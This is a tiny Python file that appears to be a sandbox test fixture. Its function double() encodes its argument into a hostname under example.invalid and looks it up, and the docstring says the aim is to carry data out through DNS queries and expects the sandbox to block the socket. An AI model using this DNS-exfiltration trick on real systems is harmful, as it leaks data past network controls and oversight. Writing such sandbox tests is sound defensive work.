"""Carries data out in the names that it asks a name server for.

must: get no socket.
outcome: error
"""

import socket


def double(x):
    return len(socket.getaddrinfo(f"x{abs(int(x))}.example.invalid", 80))
